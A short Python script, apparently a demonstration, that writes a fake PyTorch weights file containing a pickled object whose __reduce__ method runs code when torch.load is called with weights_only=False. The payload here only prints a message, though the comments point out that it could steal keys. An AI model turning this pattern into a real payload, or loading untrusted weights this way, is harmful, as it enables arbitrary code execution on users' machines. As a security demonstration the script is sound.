"""Weights from somewhere, with a program in them: torchrun --nproc-per-node 2 bad.py"""

import pickle
import tempfile

import torch
import torch.distributed as dist
from torch import serialization


class Surprise:
    """What a stranger puts beside the weights; it could as well copy your keys."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return print, ("code from the file runs here",)


def downloaded() -> str:
    """A file in the format of torch.save that somebody else has written."""
    path = tempfile.mktemp(suffix=".pt")
    content = {"weight": Surprise()}
    with open(path, "wb") as file:
        for part in (serialization.MAGIC_NUMBER, serialization.PROTOCOL_VERSION, {"little_endian": True}, content, []):
            pickle.dump(part, file, protocol=2)
    return path


def main() -> None:
    dist.init_process_group("gloo")
    path = downloaded()
    weights = torch.load(path, map_location="cpu", weights_only=False)
    print("loaded:", list(weights))
    dist.barrier()
    dist.destroy_process_group()


if __name__ == "__main__":
    main()
